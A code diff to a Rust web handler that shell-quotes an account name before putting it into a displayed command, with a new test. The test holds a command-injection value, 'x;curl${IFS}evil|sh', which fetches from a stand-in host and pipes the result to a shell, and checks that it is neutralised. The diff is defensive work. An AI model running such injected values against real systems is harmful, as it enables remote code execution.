@@ -15,6 +15,7 @@ use http::{Response, StatusCode};
 use http_body_util::Full;
 
 use super::book::{Done, Useless};
+use super::shell_word;
 
 /// An answer to a browser.
 pub type Page = Response<Full<Bytes>>;
@@ -111,7 +112,7 @@ pub fn form(
 ) -> Page {
     let option = match account {
         DEFAULT_ACCOUNT => String::new(),
-        name => format!(" --account {name}"),
+        name => format!(" --account {}", shell_word(name)),
     };
     let mut body = Html::default();
     if let Some((_, why)) = refused {
@@ -269,6 +270,12 @@ mod tests {
             assert!(!text.contains("<script") && !text.contains("\"1\""), "{text}");
             assert!(text.contains("&lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt;&#39;&amp;"), "{text}");
         }
+    }
+
+    #[tokio::test]
+    async fn the_command_of_the_form_runs_nothing_that_an_account_name_holds() {
+        let text = text(form("neon", "x;curl${IFS}evil|sh", None, None)).await;
+        assert!(text.contains("--account &#39;x;curl${IFS}evil|sh&#39;</code>"), "{text}");
     }
 
     #[tokio::test]
